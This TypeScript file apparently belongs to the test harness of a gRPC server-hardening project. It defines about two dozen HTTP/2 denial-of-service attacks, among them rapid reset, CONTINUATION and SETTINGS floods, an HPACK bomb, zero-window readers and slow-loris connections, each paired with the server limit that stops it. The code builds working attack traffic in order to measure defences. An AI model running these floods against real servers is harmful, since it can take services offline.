/**
 * The abuses, each by its name: what is sent, which limit of ours is against it, and that limit's default. Does not own what
 * the limits do (`@holdfast/grpc`), nor how an attack is bounded and measured (`attacker.ts`, `run-abuse.ts`).
 */

import { setTimeout as sleep } from "node:timers/promises";
import * as wire from "../peer/frame.ts";
import type { Attacker } from "./attacker.ts";
import * as octets from "./octets.ts";
import type { RawConnection } from "./raw-connection.ts";
import { echoPath, largePath } from "./subjects/order.ts";

export interface Abuse {
  readonly name: string;
  readonly title: string;
  /** Ours, as a user writes it; the first one is what ends the attack. */
  readonly limits: readonly string[];
  /** In words, with units. */
  readonly defaults: string;
  /** What is shortened for the measurement, so that it does not last minutes. */
  readonly shortened?: Readonly<Record<string, number>>;
  readonly isTls?: boolean;
  /** Its octets are few and its means is time: its cost per octet would say nothing. */
  readonly isSlow?: boolean;
  run(attacker: Attacker): Promise<void>;
}

const echo = octets.requestBlock(echoPath);
const large = octets.requestBlock(largePath);
const { CANCEL } = wire.code;
const { INITIAL_WINDOW_SIZE } = wire.setting;

function repeated(count: number, bytes: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, () => bytes));
}

/** As many streams as the volley has, each time. */
function shoot(volley: octets.Volley): (connection: RawConnection) => Buffer {
  return (connection) => {
    const first = connection.nextStreamId;
    connection.nextStreamId += 2 * volley.count;
    return volley.from(first);
  };
}

/** The same octets again and again, behind one stream that stays open. */
function repeat(bytes: Buffer): (attacker: Attacker) => Promise<void> {
  return (attacker) =>
    attacker.flood(
      () => bytes,
      (connection) => connection.write(octets.headers(1, echo)),
    );
}

/** So many calls of the large method, on one connection. */
function callLarge(connection: RawConnection, count: number): void {
  connection.write(shoot(new octets.Volley(count, (id) => octets.call(id, large)))(connection));
}

const floods: readonly Abuse[] = [
  {
    name: "rapid-reset",
    title: "rapid reset, CVE-2023-44487",
    limits: ["limit-rapid-reset"],
    defaults: "2,048 at once, 100 a second",
    run: (attacker) =>
      attacker.flood(
        shoot(
          new octets.Volley(100, (id) => Buffer.concat([octets.headers(id, echo), wire.rstStreamFrame(id, CANCEL)])),
        ),
      ),
  },
  {
    name: "made-you-reset",
    title: "made you reset, CVE-2025-8671",
    limits: ["limit-provoked-reset"],
    defaults: "200 at once, 20 a second",
    // RFC 9113 §6.9: an increment of 0 is an error of the stream, which the server has to reset.
    run: (attacker) =>
      attacker.flood(
        shoot(new octets.Volley(100, (id) => Buffer.concat([octets.call(id, echo), wire.windowUpdateFrame(id, 0)]))),
      ),
  },
  {
    name: "continuation-flood",
    title: "CONTINUATION flood, VU#421644",
    limits: ["maxContinuations"],
    defaults: "64 frames a block",
    run: (attacker) => {
      const batch = repeated(500, octets.continuation(1, octets.literal("x-abuse", "0123456789")));
      return attacker.flood(
        () => batch,
        (connection) => connection.write(octets.openHeaders(1, echo)),
      );
    },
  },
  {
    name: "hpack-bomb",
    title: "HPACK bomb",
    limits: ["maxHeaderListBytes", "limit-provoked-reset"],
    defaults: "64 KiB",
    // Index 62 is the field that was inserted last: 4,032 octets of a list for each octet on the wire.
    run: (attacker) =>
      attacker.flood(
        shoot(
          new octets.Volley(10, (id) => octets.headers(id, Buffer.concat([echo, Buffer.alloc(16_000, 0xbe)]), true)),
        ),
        (connection) => {
          const bomb = octets.insertedLiteral("x", "0".repeat(4_000));
          connection.write(octets.call(connection.nextStreamId, Buffer.concat([echo, bomb])));
          connection.nextStreamId += 2;
        },
      ),
  },
  {
    name: "header-list-flood",
    title: "header list flood",
    limits: ["maxHeaderListBytes", "limit-provoked-reset"],
    defaults: "64 KiB",
    run: (attacker) => {
      const block = Buffer.concat([echo, repeated(500, octets.literal("x-abuse", "0".repeat(256)))]);
      return attacker.flood(shoot(new octets.Volley(2, (id) => octets.headers(id, block, true))));
    },
  },
  {
    name: "settings-flood",
    title: "SETTINGS flood, CVE-2019-9515",
    limits: ["limit-settings"],
    defaults: "100 at once, 10 a second",
    run: repeat(repeated(1_000, wire.settingsFrame(new Map([[INITIAL_WINDOW_SIZE, 65_535]])))),
  },
  {
    name: "ping-flood",
    title: "PING flood, CVE-2019-9512",
    limits: ["pingPolicy", "limit-ping"],
    defaults: "one in 5 min, 2 strikes",
    run: repeat(repeated(1_000, wire.pingFrame(Buffer.alloc(8)))),
  },
  {
    name: "unread-answers",
    title: "PINGs whose answers are not read",
    limits: ["pingPolicy", "limit-ping", "maxControlBytes"],
    defaults: "one in 5 min, 2 strikes; 256 KiB",
    run: (attacker) => {
      const batch = repeated(1_000, wire.pingFrame(Buffer.alloc(8)));
      return attacker.flood(
        () => batch,
        (connection) => connection.fallSilent(),
      );
    },
  },
  {
    name: "empty-data-flood",
    title: "empty DATA, CVE-2019-9518",
    limits: ["limit-empty-frames"],
    defaults: "1,000 at once, 100 a second",
    run: repeat(repeated(1_000, wire.dataFrame(1, Buffer.alloc(0), false))),
  },
  {
    name: "window-update-flood",
    title: "WINDOW_UPDATE flood",
    limits: ["limit-window-update"],
    defaults: "100,000 at once, 100,000 a second",
    run: (attacker) => {
      const batch = repeated(1_000, wire.windowUpdateFrame(0, 1));
      return attacker.flood(() => batch, undefined, { isWide: false });
    },
  },
  {
    name: "priority-flood",
    title: "PRIORITY flood, CVE-2019-9513",
    limits: ["limit-useless-frames"],
    defaults: "10,000 at once, 1,000 a second",
    run: repeat(repeated(1_000, octets.priority(1))),
  },
  {
    name: "window-overflow",
    title: "window overflow",
    limits: ["rfc9113-6.9.1"],
    defaults: "2,147,483,647 octets",
    run: (attacker) => attacker.flood(() => repeated(2, wire.windowUpdateFrame(0, wire.maxUint31))),
  },
  {
    name: "unused-streams",
    title: "streams opened and never used",
    limits: ["maxConcurrentStreams", "limit-rapid-reset"],
    defaults: "1,024 open; beyond it 2,048 at once, 100 a second",
    run: (attacker) => attacker.flood(shoot(new octets.Volley(100, (id) => octets.headers(id, echo)))),
  },
];

/** 1,000: what every server here lets a connection have open or refuses by name, and most allow 100 of. */
const streamCount = 1_000;

const readers: readonly Abuse[] = [
  {
    name: "zero-window",
    title: "zero-window reader, CVE-2019-9517",
    limits: ["maxUnreadBytes", "noProgressMs"],
    defaults: "120 s without credit while more than 16 MiB wait",
    shortened: { noProgressMs: 1_500 },
    isSlow: true,
    run: async (attacker) => {
      const settings = new Map([[INITIAL_WINDOW_SIZE, 0]]);
      for (const connection of await attacker.openMany(4, { settings })) callLarge(connection, streamCount);
      await attacker.hold();
    },
  },
  {
    name: "one-byte-window",
    title: "one-byte-window reader, CVE-2019-9511",
    limits: ["limit-window-update", "noProgressMs", "maxUnreadBytes"],
    defaults: "100,000 a second; 16 KiB in 120 s while more than 16 MiB wait",
    shortened: { noProgressMs: 1_500 },
    run: (attacker) => {
      const volley = new octets.Volley(streamCount, (id) => wire.windowUpdateFrame(id, 1));
      return attacker.flood(
        () => volley.from(1),
        (connection) => callLarge(connection, streamCount),
        { settings: new Map([[INITIAL_WINDOW_SIZE, 1]]) },
      );
    },
  },
  {
    name: "shared-window-dribble",
    title: "a thousand answers behind one octet of connection window",
    limits: ["limit-window-update", "noProgressMs", "maxUnreadBytes"],
    defaults: "100,000 a second; 16 KiB in 120 s while more than 16 MiB wait",
    shortened: { noProgressMs: 1_500 },
    // An octet of credit at a time, in a packet of its own where the server reads fast enough.
    run: (attacker) => {
      const octet = wire.windowUpdateFrame(0, 1);
      return attacker.flood(
        () => octet,
        (connection) => callLarge(connection, streamCount),
        { isWide: false },
      );
    },
  },
];

const slow: readonly Abuse[] = [
  {
    name: "slow-preface",
    title: "slow loris: preface",
    limits: ["handshakeMs"],
    defaults: "20 s from connecting to SETTINGS",
    shortened: { handshakeMs: 1_000 },
    isSlow: true,
    run: async (attacker) => {
      const connections = await attacker.openMany(200, { greeting: "silence" });
      await attacker.trickle(connections, 200, (one) =>
        one.write(wire.preface.subarray(one.sentBytes, one.sentBytes + 1)),
      );
    },
  },
  {
    name: "slow-headers",
    title: "slow loris: headers",
    limits: ["headerBlockMs"],
    defaults: "20 s from a frame's first octet, or a block's first frame, to its last",
    shortened: { headerBlockMs: 1_000 },
    isSlow: true,
    run: async (attacker) => {
      const connections = await attacker.openMany(200);
      // Inside a header block nothing else may be said, so SETTINGS are acknowledged first.
      await sleep(100);
      for (const one of connections) one.write(octets.openHeaders(1, echo));
      const octet = octets.continuation(1, Buffer.from([0x90])); // accept-encoding of the static table;
      await attacker.trickle(connections, 200, (one) => one.write(octet));
    },
  },
  {
    name: "slow-body",
    title: "slow loris: bodies",
    limits: ["messageMs", "receiveBudgetBytes"],
    defaults: "10 s for a message while 64 MiB are held",
    shortened: { messageMs: 1_000 },
    isSlow: true,
    // A message of 1 MiB is announced on each stream, 16 KiB of it come, then an octet at a time.
    run: async (attacker) => {
      const part = Buffer.alloc(octets.frameBytes);
      part.writeUInt32BE(0x10_0000, 1);
      const connections = await attacker.openMany(5);
      for (let n = 0; n < streamCount && !attacker.isOver; n++) {
        const id = 2 * n + 1;
        for (const one of connections) {
          while (one.isOpen && one.windowBytes < part.length && !attacker.isOver) await attacker.room(one);
          one.windowBytes -= part.length;
          one.write(octets.headers(id, echo), wire.dataFrame(id, part, false));
        }
        if (n % 20 === 0) for (const one of connections) await attacker.room(one);
      }
      await attacker.trickle(connections, 100, (one) => one.write(wire.dataFrame(1, Buffer.from([0]), false)));
    },
  },
  {
    name: "unused-connections",
    title: "connections that are never used",
    limits: [],
    defaults: "none, as gRPC has it: idle connections are wanted",
    isSlow: true,
    run: async (attacker) => {
      await attacker.openMany(500);
      await attacker.hold();
    },
  },
  {
    name: "half-open",
    title: "half-open peers: a call, then silence",
    limits: ["limit-silence"],
    defaults: "a PING after 315 s, the end 20 s later",
    isSlow: true,
    run: async (attacker) => {
      for (const one of await attacker.openMany(200)) {
        one.write(octets.headers(1, echo));
        await attacker.room(one);
        one.fallSilent();
      }
      await attacker.hold();
    },
  },
  {
    name: "tls-handshake",
    title: "TLS handshakes that never end",
    limits: ["handshakeMs"],
    defaults: "20 s for TLS, 20 s more for SETTINGS",
    shortened: { handshakeMs: 1_000 },
    isTls: true,
    isSlow: true,
    run: async (attacker) => {
      // A handshake record, RFC 8446 §5.1, of which only the first octets come.
      const hello = Buffer.from([0x16, 0x03, 0x01, 0x02, 0x00, 0x01]);
      const connections = await attacker.openMany(300, { greeting: "silence", isPlain: true });
      for (const one of connections) one.write(hello);
      await attacker.trickle(connections, 200, (one) => one.write(Buffer.from([0])));
    },
  },
];

export const abuses: readonly Abuse[] = [...floods, ...readers, ...slow];
